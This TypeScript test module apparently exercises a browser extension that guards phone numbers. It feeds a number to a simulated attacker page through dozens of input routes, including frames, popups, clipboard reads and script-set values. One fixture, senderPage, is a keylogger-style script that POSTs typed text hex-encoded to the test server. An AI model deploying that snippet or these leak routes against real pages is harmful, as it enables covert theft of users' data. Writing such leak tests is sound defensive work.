/** How a number comes to the attacker's page. Real input wherever the browser can be driven to it. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import type { CDPSession, ElementHandle, Page } from 'puppeteer-core'
import { type Driven, type DrivenPage, until } from '../driver/index.ts'
import * as F from '../flow.ts'

export interface At {
  readonly c: F.Counter
  readonly d: Driven
  readonly page: DrivenPage
  readonly p: Page
  readonly number: string
  /** The address of this way's own site. */
  readonly origin: string
}

const fullwidth = (text: string): string =>
  text.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d)))
const han = (text: string): string => text.replace(/\d/g, (d) => '零一二三四五六七八九'[Number(d)] as string)

const typeInto =
  (selector: string, spell: (n: string) => string = (n) => n) =>
  async ({ p, number }: At): Promise<void> => {
    await p.focus(selector)
    await p.keyboard.type(spell(number))
  }
const pasteInto =
  (selector: string, spell: (n: string) => string = (n) => n) =>
  async ({ p, page, number }: At): Promise<void> => {
    await withClipboard(async () => {
      await page.engine.setClipboard(spell(number))
      await page.bringToFront()
      await p.focus(selector)
      await page.engine.chord(p, 'v')
    })
  }
/** Types into the stage's own field, wherever it stands. */
const typeInside = async ({ p, number }: At): Promise<void> => {
  await p.evaluate(() => (state as { focus?: () => void }).focus?.())
  await p.keyboard.type(number)
}
const typeInFrame =
  (matches: (url: string) => boolean, selector = '#inner') =>
  async ({ p, number }: At): Promise<void> => {
    const frame = await until('the frame', async () =>
      p.frames().find((f) => f !== p.mainFrame() && matches(f.url())),
    )
    const field = await frame.waitForSelector(selector)
    await field?.click()
    await p.keyboard.type(number)
  }
const script =
  (act: (number: string) => unknown) =>
  async ({ p, number }: At): Promise<void> => {
    await p.evaluate(act as (n: string) => void, number)
  }
/** A page that sends by itself, as hex, what stands in its one field. */
const senderPage = (origin: string): string =>
  `<!doctype html><meta charset="utf-8"><input id="text"><button id="send"></button><script>document.getElementById('text').addEventListener('keyup',e=>{if(e.target.value.length>7)fetch('${origin}/x/top',{method:'POST',mode:'no-cors',body:[...e.target.value].map(c=>c.charCodeAt(0).toString(16)).join('')})})</script>`

/** A file for the time of one act. */
async function withFile<T>(name: string, text: string, act: (path: string) => Promise<T>): Promise<T> {
  const folder = mkdtempSync(join(tmpdir(), 'countersign-way-'))
  try {
    writeFileSync(join(folder, name), text)
    return await act(join(folder, name))
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

/** The clipboard is one for all tabs, and so is the tab in front. */
let clipboard: Promise<unknown> = Promise.resolve()
const withClipboard = <T>(act: () => Promise<T>): Promise<T> => {
  const mine = clipboard.then(act, act)
  clipboard = mine.catch(() => undefined)
  return mine
}

/** How long the background hangs in the ways that say so. */
export const HANGS = 3_000

const client = (p: Page): CDPSession => (p.mainFrame() as unknown as { client: CDPSession }).client

declare const register: () => Promise<void>
declare const state: { held: string; values?: string; roots: ShadowRoot[] }

export const entries: Readonly<Record<string, (at: At) => Promise<void>>> = {
  held: script((n) => {
    state.held = n
  }),
  'held-reload': async ({ p, page, number }) => {
    await p.evaluate((n) => void sessionStorage.setItem('again', n), number)
    await page.reload()
  },
  nothing: async () => undefined,
  'type-text': typeInto('#text'),
  'type-tel': typeInto('#tel'),
  'type-number': typeInto('#number'),
  'type-password': typeInto('#password'),
  'type-area': typeInto('#area'),
  'type-editable': typeInto('#editable'),
  'type-canvas': typeInto('#canvas'),
  'type-nowhere': async ({ p, number }) => {
    await p.evaluate(() => (document.activeElement as HTMLElement | null)?.blur())
    await p.keyboard.type(number)
  },
  'type-plus-dashes': typeInto('#text', (n) => `+86 ${n.replace(/(\d{3})(\d{4})(\d{4})/, '$1-$2-$3')}`),
  'type-dots': typeInto('#text', (n) => [...n].join('.')),
  'type-fullwidth': typeInto('#text', fullwidth),
  'type-han': typeInto('#text', han),
  'type-ten': typeInto('#search', (n) => n.slice(0, 10)),
  'type-last-eight': typeInto('#search', (n) => n.slice(3)),
  'type-boxes': typeInto('#box0'),
  'type-three-fields': async ({ p, number }) => {
    for (const [id, from, to] of [
      ['#first', 0, 3],
      ['#second', 3, 7],
      ['#third', 7, 11],
    ] as const) {
      await p.focus(id)
      await p.keyboard.type(number.slice(from, to))
    }
  },
  'type-end-first': async ({ p, number }) => {
    await p.focus('#text')
    await p.keyboard.type(number.slice(7))
    await p.keyboard.press('Home')
    await p.keyboard.type(number.slice(0, 7))
  },
  'type-letters-between': async ({ p, number }) => {
    await p.focus('#text')
    await p.keyboard.type(`${number.slice(0, 6)}x${number.slice(6)}`)
    for (let i = 0; i < 5; i++) await p.keyboard.press('ArrowLeft')
    await p.keyboard.press('Backspace')
  },
  'type-twice-corrected': async ({ p, number }) => {
    await p.focus('#text')
    for (const digit of number) {
      await p.keyboard.type('7')
      await p.keyboard.press('Backspace')
      await p.keyboard.type(digit)
    }
  },
  'type-inside': typeInside,
  'type-same-frame': typeInFrame((u) => u.endsWith('/frame.html')),
  'type-cross-frame': typeInFrame((u) => u.includes('//peer.'), '#text'),
  'type-srcdoc': typeInFrame((u) => u === 'about:srcdoc'),
  'type-blob': typeInFrame((u) => u.startsWith('blob:')),
  'type-data': typeInFrame((u) => u.startsWith('data:')),
  'type-after-reload': async (at) => {
    await at.page.reload()
    await ready(at)
    await typeInto('#text')(at)
  },
  'type-after-back': async (at) => {
    await at.page.goto(`${at.origin}/x/away`)
    await at.page.replacedBy(() => at.p.evaluate(() => void setTimeout(() => history.back())))
    await ready(at)
    await typeInto('#text')(at)
  },
  // The background has ended; what is known in the page, and the rules, stand without it.
  'type-worker-stopped': async (at) => {
    await at.d.stopWorker()
    await typeInto('#text')(at)
  },
  'type-worker-stopped-reload': async (at) => {
    await at.d.stopWorker()
    await at.page.reload()
    await ready(at)
    await typeInto('#text')(at)
  },
  // A page that the site's own service worker answers: no request, so no rule.
  'type-own-page': async (at) => {
    await at.p.evaluate(() => register())
    await at.page.goto(`${at.origin}/own?exit=${exitOf(at)}`)
    await ready(at)
    await typeInto('#text')(at)
  },
  'type-blob-top': async (at) => {
    await at.p.evaluate((text) => {
      location.href = URL.createObjectURL(new Blob([text], { type: 'text/html' }))
    }, senderPage(at.origin))
    await until('the page of the blob', () => at.p.evaluate(() => location.protocol === 'blob:'))
    await at.p.waitForSelector('#text')
    await typeInto('#text')(at)
  },
  // Chromium reads such a page only where a person has ticked it; a company forbids them (docs/policy.md).
  'type-file': (at) =>
    withFile('note.html', senderPage(at.origin), async (path) => {
      await at.page.goto(pathToFileURL(path).href)
      await at.p.waitForSelector('#text', { timeout: 3_000 })
      await typeInto('#text')(at)
      await new Promise((done) => setTimeout(done, 200))
    }),
  // A window of its own, opened by the page.
  'type-popup': async (at) => {
    const url = `${at.origin}/?exit=${exitOf(at)}&popup=1`
    const [popup] = await Promise.all([
      new Promise<Page | null>((done) => at.p.once('popup', done)),
      at.p.evaluate((to) => void open(to, '', 'popup,width=500,height=400'), url),
    ])
    if (!popup) throw new Error('no window')
    try {
      const there = { ...at, p: popup }
      await ready(there)
      await typeInto('#text')(there)
      await popup.evaluate(() => document.getElementById('send')?.click())
      await new Promise((done) => setTimeout(done, 300))
    } finally {
      await popup.close().catch(() => undefined)
    }
  },
  // The page itself opens a blank window and reads what is typed into it.
  'type-popup-blank': async (at) => {
    const popup = await blankPopup(at)
    await (await popup?.waitForSelector('#inner'))?.focus()
    await popup?.keyboard.type(at.number)
  },
  // The background's thread is busy: what is known in the page has to do.
  'type-background-hung': async (at) => {
    await at.d.hangWorker(HANGS)
    await typeInto('#text')(at)
  },
  'type-background-hung-reload': async (at) => {
    await at.d.hangWorker(HANGS)
    await at.page.reload()
    await ready(at)
    await typeInto('#text')(at)
  },
  'held-background-hung': async (at) => {
    await at.d.hangWorker(HANGS)
    await entries['held']?.(at)
  },
  'held-worker-stopped': async (at) => {
    await at.d.stopWorker()
    await entries['held']?.(at)
  },
  // The log, the numbers, the policy: away, while the browser runs; and with the background ended as well.
  'type-database-gone': async (at) => {
    await loseDatabase(at)
    await typeInto('#text')(at)
  },
  'type-database-gone-restarted': async (at) => {
    await loseDatabase(at)
    await at.d.stopWorker()
    await at.page.reload()
    await ready(at)
    await new Promise((done) => setTimeout(done, 500))
    await typeInto('#text')(at)
  },
  'type-after-update': async (at) => {
    await at.d.updateExtension()
    await typeInto('#text')(at)
  },
  // A page from before the update, a number from after it.
  'type-after-update-new': async (at) => {
    await at.d.updateExtension()
    const portal = await F.activate(at.c, { number: at.number, ticks: [] })
    await at.page.bringToFront()
    await typeInto('#text')(at)
    await portal.close()
  },
  // The whole browser, started anew on its profile: the settings that an administrator gives come seconds late.
  'type-after-restart': typeInto('#text'),
  // Begun before anybody knew the number, ended after.
  'typed-before': async () => undefined,
  'bfcache-before': async (at) => {
    // The page comes back as it was, marks of the driver and all.
    await at.p.evaluate(() => void setTimeout(() => history.back()))
    await until('the page to come back', () => at.p.evaluate(() => location.pathname === '/back'))
    await ready(at)
    // No hand is faster.
    await new Promise((done) => setTimeout(done, 300))
  },
  'password-manager': async (at) => {
    await at.d.saveLogIn(at.origin, at.number)
    await at.page.reload()
    await ready(at)
    // Stopped, it is never filled.
    await until(
      'the fill',
      () => at.p.evaluate(() => document.querySelector<HTMLInputElement>('#user')?.value),
      {
        timeout: 1_500,
      },
    ).catch(() => undefined)
  },
  'upload-file': (at) =>
    withFile('note.txt', `tel ${at.number}`, async (path) => {
      const field = (await at.p.$('#file')) as ElementHandle<HTMLInputElement>
      await field.uploadFile(path)
      await new Promise((done) => setTimeout(done, 100))
      await at.p.click('#go')
      await new Promise((done) => setTimeout(done, 300))
    }),
  'paste-text': pasteInto('#text'),
  'paste-area': pasteInto('#area', (n) => `客户电话：${n}，谢谢`),
  'paste-dashes': pasteInto('#tel', (n) => n.replace(/(\d{3})(\d{4})(\d{4})/, '$1-$2-$3')),
  'paste-editable': pasteInto('#editable'),
  'paste-canvas': pasteInto('#canvas'),
  'paste-halves': async (at) => {
    await pasteInto('#text', (n) => n.slice(0, 6))(at)
    await at.p.keyboard.press('End')
    await pasteInto('#text', (n) => n.slice(6))(at)
  },
  'paste-two-fields': async (at) => {
    await pasteInto('#text', (n) => n.slice(0, 6))(at)
    await pasteInto('#tel', (n) => n.slice(6))(at)
  },
  'exec-command': async ({ p, number }) => {
    await p.focus('#text')
    await p.evaluate((n) => void document.execCommand('insertText', false, n), number)
  },
  'exec-command-html': async ({ p, number }) => {
    await p.focus('#editable')
    await p.evaluate((n) => void document.execCommand('insertHTML', false, `<b>${n}</b>`), number)
  },
  'script-value': script((n) => {
    ;(document.getElementById('text') as HTMLInputElement).value = n
  }),
  'script-attribute': script((n) => document.getElementById('text')?.setAttribute('value', n)),
  'script-range-text': script((n) =>
    (document.getElementById('area') as HTMLTextAreaElement).setRangeText(n),
  ),
  'script-text': script((n) => {
    const shown = document.getElementById('editable')
    if (shown) shown.textContent = `请拨 ${n}`
  }),
  'script-shown': script(async (n) => {
    const shown = document.getElementById('shown')
    if (shown) shown.textContent = `请拨 ${n}`
    // What stands on the page can be read off it: this is what the exit takes.
    setTimeout(() => {
      state.values = shown?.textContent ?? ''
    }, 300)
    await new Promise((done) => setTimeout(done, 500))
  }),
  'script-shown-inside': script(async (n) => {
    const shown = state.roots[0]?.querySelector('p')
    if (shown) shown.textContent = `请拨 ${n}`
    setTimeout(() => {
      state.values = shown?.textContent ?? ''
    }, 300)
    await new Promise((done) => setTimeout(done, 500))
  }),
  'script-attribute-inside': script((n) => state.roots[0]?.querySelector('input')?.setAttribute('value', n)),
  // A root that comes to an element long after the element came to the page.
  'script-shown-late': script(async (n) => {
    const root = document.getElementById('stage')?.attachShadow({ mode: 'closed' })
    const shown = document.createElement('p')
    root?.append(shown)
    await new Promise((done) => setTimeout(done, 100))
    shown.textContent = `请拨 ${n}`
    setTimeout(() => {
      state.values = shown.textContent ?? ''
    }, 300)
    await new Promise((done) => setTimeout(done, 500))
  }),
  'script-event': script((n) => {
    // As a password manager fills: value by the clean setter of another realm, then events.
    const frame = document.body.appendChild(document.createElement('iframe'))
    const clean = Object.getOwnPropertyDescriptor(
      (frame.contentWindow as unknown as typeof globalThis).HTMLInputElement.prototype,
      'value',
    )
    const field = document.getElementById('tel') as HTMLInputElement
    clean?.set?.call(field, n)
    field.dispatchEvent(new InputEvent('input', { bubbles: true }))
    field.dispatchEvent(new Event('change', { bubbles: true }))
  }),
  'type-two-frames': async ({ p, number }) => {
    await p.focus('#text')
    await p.keyboard.type(number.slice(0, 6))
    const frame = await until('the frame', async () =>
      p.frames().find((f) => f.url().endsWith('/frame.html')),
    )
    await (await frame.waitForSelector('#inner'))?.click()
    await new Promise((done) => setTimeout(done, 150))
    await p.keyboard.type(number.slice(6))
  },
  prompt: async ({ p, number }) => {
    p.once('dialog', (dialog) => void dialog.accept(number).catch(() => undefined))
    await p.evaluate(() => {
      state.held = prompt('号码') ?? ''
    })
  },
  'clipboard-read': async ({ p, page, number, origin }) => {
    await p.browserContext().overridePermissions(origin, ['clipboard-read'])
    await withClipboard(async () => {
      await page.engine.setClipboard(number)
      await page.bringToFront()
      await p.evaluate(async () => {
        state.held = await navigator.clipboard.readText()
      })
    })
  },
  'clipboard-read-items': async ({ p, page, number, origin }) => {
    await p.browserContext().overridePermissions(origin, ['clipboard-read'])
    await withClipboard(async () => {
      await page.engine.setClipboard(number)
      await page.bringToFront()
      await p.evaluate(async () => {
        for (const item of await navigator.clipboard.read())
          state.held += await (await item.getType('text/plain')).text()
      })
    })
  },
  'address-query': async (at) => {
    await at.page.goto(`${at.origin}/?exit=${exitOf(at)}&p=${at.number}`)
    await ready(at)
    await at.p.evaluate(() => {
      state.held = new URLSearchParams(location.search).get('p') ?? ''
    })
  },
  'address-hash': async (at) => {
    await at.p.evaluate((n) => {
      location.hash = n
      setTimeout(() => {
        state.held = location.hash.slice(1)
      }, 200)
    }, at.number)
    await new Promise((done) => setTimeout(done, 400))
  },
  // Chromium only: Firefox cannot be driven to these.
  'insert-text': async ({ p, number }) => {
    await p.focus('#text')
    await client(p).send('Input.insertText', { text: number })
  },
  composition: async ({ p, number }) => {
    await p.focus('#text')
    for (let i = 1; i <= number.length; i++) {
      await client(p).send('Input.imeSetComposition', {
        text: number.slice(0, i),
        selectionStart: i,
        selectionEnd: i,
      })
    }
    await client(p).send('Input.insertText', { text: number })
  },
  drop: async ({ p, number }) => {
    const target = await p.$('#text')
    const box = await target?.boundingBox()
    if (!box) throw new Error('no field to drop on')
    const data = { items: [{ mimeType: 'text/plain', data: number }], dragOperationsMask: 1 }
    const at = { x: box.x + 5, y: box.y + 5, data }
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const)
      await client(p).send('Input.dispatchDragEvent', { type, ...at })
  },
}

/** What stands in a page before the number is known, or guarded. */
export const prepares: Readonly<Record<string, (at: At) => Promise<void>>> = {
  'typed-before': typeInto('#text'),
  'bfcache-before': async (at) => {
    await at.page.goto(`${at.origin}/back?exit=${exitOf(at)}`)
    await ready(at)
    await typeInto('#text')(at)
    await at.page.goto(`${at.origin}/x/away`)
  },
}

async function blankPopup({ p }: At): Promise<Page | null> {
  const [popup] = await Promise.all([
    new Promise<Page | null>((done) => p.once('popup', done)),
    p.evaluate(() => (state as unknown as { popup(): void }).popup()),
  ])
  return popup
}

/** Deletes the extension's database from one of its own pages, as somebody at the disk would. */
async function loseDatabase({ d }: At): Promise<void> {
  const page = await d.newPage(d.extensionUrl('popup.html'))
  await page.evaluate(
    () =>
      new Promise<void>((done) => {
        const gone = indexedDB.deleteDatabase('countersign')
        for (const type of ['success', 'error', 'blocked']) gone.addEventListener(type, () => done())
      }),
  )
  await page.close()
}

const exitOf = (at: At): string => new URL(at.p.url()).searchParams.get('exit') ?? ''

/** The attacker's page has set its stage. */
export const ready = (at: Pick<At, 'p'>): Promise<unknown> =>
  until('the page to be set', () => at.p.evaluate(() => document.documentElement.dataset['ready'] === '1'))
